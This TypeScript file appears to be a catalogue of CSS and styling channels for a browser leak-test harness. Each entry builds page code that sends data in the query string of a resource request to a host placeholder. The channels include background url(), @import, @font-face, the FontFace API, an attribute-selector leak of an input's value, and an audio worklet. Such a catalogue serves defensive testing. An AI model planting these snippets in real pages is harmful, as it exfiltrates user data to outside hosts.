import { element, markup, page, type Channel } from './channel.ts';

/** Style: url() in all its places, fonts, selectors that leak what a field holds, worklets. */
export const styleChannels: readonly Channel[] = [
  page('CSS url()', markup('`<div style="background:url(${U.h}/css-bg.png?${U.d});height:9px"></div>`')),
  page(
    'CSSOM style url()',
    `const e=document.createElement('div');e.style.cssText='height:9px;background-image:url('+U.h+'/cssom.png?'+U.d+')';document.body.append(e)`,
  ),
  page('style element @import', element('style', `textContent:'@import url('+U.h+'/style.css?'+U.d+');'`, 'head')),
  page(
    '@font-face',
    element('style', `textContent:'@font-face{font-family:z;src:url('+U.h+'/f.woff2?'+U.d+')}'`, 'head') +
      `const s=document.createElement('span');s.textContent='x';s.style.fontFamily='z';document.body.append(s)`,
  ),
  page('FontFace API', `const f=new FontFace('q','url('+U.h+'/ff.woff2?'+U.d+')');document.fonts.add(f);f.load().catch(()=>{})`),
  page(
    'constructed stylesheet',
    `const s=new CSSStyleSheet();s.replaceSync('body{background:url('+U.h+'/cs.png?'+U.d+')}');document.adoptedStyleSheets=[s]`,
  ),
  page(
    'CSS attr selector leak',
    element('style', `textContent:'input[value^="s"]{background:url('+U.h+'/sel.png?'+U.d+');height:9px}'`, 'head') +
      `const i=document.createElement('input');i.setAttribute('value','secret');document.body.append(i)`,
  ),
  page(
    'image-set/cursor/list-style',
    `const e=document.createElement('li');e.style.cssText='cursor:url('+U.h+'/cur.png?'+U.d+'),auto;list-style-image:url('+U.h+'/li.png?'+U.d+')';document.body.append(e)`,
  ),
  page('paint/audio worklet', `const c=new AudioContext();await c.audioWorklet.addModule(U.h+'/worklet.js?'+U.d)`),
];
